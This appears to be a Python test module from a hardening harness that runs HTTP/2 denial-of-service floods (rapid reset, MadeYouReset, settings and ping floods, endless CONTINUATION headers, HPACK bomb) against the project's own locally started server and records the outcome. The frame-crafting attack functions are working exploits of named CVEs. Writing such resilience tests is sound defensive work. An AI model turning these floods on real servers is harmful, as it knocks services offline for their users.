"""Floods and bombs of HTTP/2, each on one connection."""

import struct

from hostile import http2
from hostile.attacks import Row
from hostile.http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE,
                           Connection, frame)
from hostile.hub import Hub
from hostile.watch import Watch

CANCEL = struct.pack(">I", 8)
# With what the stream may send already it is too large.
LARGEST_WINDOW = struct.pack(">I", 2**31 - 1)
FRAME_BYTES_MAX = 16_384
STEP = 1_000
SECONDS_AFTER = 5
LEFT_SECONDS = 30


def rapid_reset(connection, count):
    """CVE-2023-44487: requests that are taken back at once."""
    for _ in range(0, count, STEP):
        step = b""
        for _ in range(min(STEP, count)):
            stream, opening = connection.open("/events/a", accept="application/json")
            step += opening + frame(RST_STREAM, 0, stream, CANCEL)
        if not connection.send(step):
            return


def made_you_reset(connection, count):
    """CVE-2025-8671: requests with a mistake behind them, for which the server has to reset the stream itself."""
    for _ in range(0, count, STEP):
        step = b""
        for _ in range(min(STEP, count)):
            stream, opening = connection.open("/events/a", accept="application/json")
            step += opening + frame(WINDOW_UPDATE, 0, stream, LARGEST_WINDOW)
        if not connection.send(step):
            return


def settings_flood(connection, count):
    """CVE-2019-9515: settings, each of which must be acknowledged, by a peer that reads nothing."""
    connection.send(frame(SETTINGS, 0, 0) * count, listening=False)


def ping_flood(connection, count):
    """CVE-2019-9512."""
    connection.send(frame(PING, 0, 0, b"hostile!") * count, listening=False)


def empty_frames(connection, count):
    """CVE-2019-9518: data without a byte, for a body that does not end."""
    stream, opening = connection.open("/events/a", "POST", end=False)
    connection.send(opening + frame(DATA, 0, stream) * count)


def continuations(connection, count):
    """CVE-2024-27316: a block of headers that does not end."""
    filling = b"\0" + http2.text(b"x-hostile") + http2.text(b"v" * 8_000)
    stream, _ = connection.open("/")
    block = http2.head("/events/a") + filling
    opening = frame(HEADERS, END_STREAM, stream, block)
    connection.send(opening + frame(CONTINUATION, 0, stream, filling * 2) * count)


def small_continuations(connection, count):
    """The same with frames of no byte, which no bound on the bytes of headers ends."""
    stream, _ = connection.open("/")
    connection.send(frame(HEADERS, END_STREAM, stream, http2.head("/events/a")) + frame(CONTINUATION, 0, stream) * count)


def hpack_bomb(connection, count):
    """CVE-2016-6581: a header of 4,000 bytes that is remembered, and then named by one byte, 16,000 times in a request."""
    value = b"\x40" + http2.text(b"x") + http2.text(b"v" * 4_000)
    for number in range(count):
        stream, _ = connection.open("/")
        block = http2.head("/events/a", accept="application/json") + (value if number == 0 else b"")
        block += b"\xbe" * (FRAME_BYTES_MAX - len(block))
        if not connection.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, block)):
            return


def left_open(connection, count):
    """Requests whose bodies never begin."""
    connection.send(b"".join(connection.open("/events/a", "POST", end=False)[1] for _ in range(count)))
    connection.listen(LEFT_SECONDS)


FLOODS = {
    "rapid reset, {:,} requests": (rapid_reset, 100_000),
    "resets that the hub is made to send, {:,} requests": (made_you_reset, 100_000),
    "{:,} settings, unread": (settings_flood, 1_000_000),
    "{:,} pings, unread": (ping_flood, 1_000_000),
    "{:,} empty frames of data": (empty_frames, 1_000_000),
    "a head of {:,} continuations of 16 KB": (continuations, 10_000),
    "a head of {:,} empty continuations": (small_continuations, 1_000_000),
    "{:,} heads of 64 MB that are 16 KB compressed": (hpack_bomb, 1_000),
    "{:,} requests without their bodies, left for 30 s": (left_open, 1_000),
}


def floods(context):
    for title, (flood, full) in FLOODS.items():
        count = context.count(full)
        with Hub(context.binary, tls=True) as hub:
            with Watch(hub) as watch:
                with Connection(hub) as connection:
                    flood(connection, count)
                    connection.listen(SECONDS_AFTER)
                    facts = {"connection": connection.fate()}
                watch.settle(10)
        yield Row("HTTP/2: " + title.format(count), facts, watch)
